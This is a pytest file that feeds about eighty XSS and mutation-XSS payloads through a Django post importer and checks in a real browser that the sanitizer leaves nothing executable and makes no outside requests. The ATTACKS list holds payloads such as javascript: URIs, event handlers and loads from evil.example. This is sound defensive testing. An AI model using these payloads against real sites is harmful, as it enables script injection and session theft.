# ruff: noqa: E501 (an attack is one line)
"""What the sanitizer leaves of hostile HTML, in the real browser and without CSP to help."""

import pytest
from django.urls import reverse

from articles.importing.pipeline import import_posts
from articles.models import Post

# After OWASP's and PortSwigger's cheat sheets, and published mutation attacks on sanitizers.
ATTACKS = [
    "<script>alert(1)</script>", "<SCRIPT/x>alert(1)</SCRIPT>", "<scr<script>ipt>alert(1)</script>",
    "<script src=//evil.example/x.js></script>", "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>", '<img src="x" oNeRrOr="alert(1)">', "<img src=x onload=alert(1)>",
    "<img src=`x`onerror=alert(1)>", '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "<img srcset='//evil.example/x 1x' src=y>", "<img src='javascript:alert(1)'>",
    "<img dynsrc=javascript:alert(1)>", "<img lowsrc=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>", "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>", "<a href='jav&#x0A;ascript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>", "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>", "<a href='vbscript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>", "<a href='//evil.example' ping='//evil.example'>x</a>",
    "<body onload=alert(1)>", "<div onmouseover=alert(1)>x</div>", "<p onclick=alert(1)>x</p>",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg/onload=alert(1)//",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><a xlink:href=javascript:alert(1)>",
    "<svg><set attributeName=href to=javascript:alert(1)>", "<svg><use href='data:image/svg+xml,x#x'>",
    "<svg><foreignObject><iframe src=javascript:alert(1)>", "<svg><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>", "<math><mi xlink:href='data:x,<script>alert(1)'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>", "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>", "<title><img src=x onerror=alert(1)>",
    "<style>@import '//evil.example/x.css';</style>", "<style>body{background:url(//evil.example/x)}</style>",
    "<p style='background:url(//evil.example/x)'>x</p>", "<p style='position:fixed;inset:0'>x</p>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<link rel=prefetch href=//evil.example/x>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>", "<base href=//evil.example/>",
    "<iframe src=//evil.example/></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<embed src=//evil.example/x>", "<object data=//evil.example/x></object>", "<applet code=x>",
    "<form action=//evil.example/><input autofocus onfocus=alert(1)><button>x</button></form>",
    "<input type=image src=//evil.example/x formaction=javascript:alert(1)>",
    "<select autofocus onfocus=alert(1)>", "<keygen autofocus onfocus=alert(1)>",
    "<video src=//evil.example/x onerror=alert(1)></video>", "<audio src=//evil.example/x autoplay></audio>",
    "<video><source onerror=alert(1) src=x></video>", "<video poster=//evil.example/x></video>",
    "<details open ontoggle=alert(1)>x</details>", "<marquee onstart=alert(1)>x</marquee>",
    "<frameset onload=alert(1)>", "<isindex action=javascript:alert(1)>", "<bgsound src=//evil.example/x>",
    "<table background=//evil.example/x><td background=//evil.example/y>x</table>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->", "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>", "<?xml-stylesheet href=//evil.example/x?>",
    "<a class=keytip data-code='1,600519\"onclick=alert(1)'>x</a>",
    "<a class=keytip data-code='1,<script>alert(1)</script>'>x</a>",
    "<p class=em_media>（文章来源：<img src=x onerror=alert(1)>&lt;script&gt;alert(1)&lt;/script&gt;）</p>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "<p id=search name=q class=site-header>x</p>",
]  # fmt: skip
HEADER = '---\ntitle: "<img src=x onerror=alert(1)>{n}"\ndate: 2022-03-04 09:30:00\ncategories: emnews\ntags: <b onclick=alert(1)>\n---\n'

HARMFUL = "iframe, object, embed, form[action^='//'], base, meta[http-equiv], [style], main script"
#: Does what readers do, to everything that an attack may have left.
TEMPT = """
for (const element of document.querySelectorAll("main a, main img, main p"))
    for (const event of ["mouseover", "error", "focus"])
        element.dispatchEvent(new Event(event, { bubbles: true }));
"""


@pytest.fixture
def attacked(transactional_db, tmp_path):
    for n, attack in enumerate(ATTACKS):
        body = f"<p>前文</p>{attack}<p>后文</p>\n\n<http://x.example/'onclick=alert(1)>"
        path = tmp_path / f"2022-03-04-2022030400000{n:05}.md"
        path.write_text(HEADER.format(n=n) + body)
    counts = import_posts([tmp_path]).counts
    assert counts["created"] + counts["repaired"] == len(ATTACKS)
    return list(Post.objects.order_by("pk"))


def test_nothing_runs_and_nothing_leaves_except_pictures(open_page, live_server, attacked):
    page = open_page("/robots.txt", bypass_csp=True)
    events = []
    page.on("dialog", lambda dialog: (events.append((page.url, dialog.message)), dialog.dismiss()))
    for post in attacked:
        address = live_server.url + post.get_absolute_url()
        page.goto(address)
        page.evaluate(TEMPT)
        assert page.url == address, post.body_html
        assert page.evaluate("document.baseURI") == address, post.body_html
        assert page.locator(HARMFUL).count() == 0, post.body_html
    page.goto(live_server.url + reverse("posts"))
    page.goto(live_server.url)
    assert events == []
    assert {request.resource_type for request in page.foreign} <= {"image"}
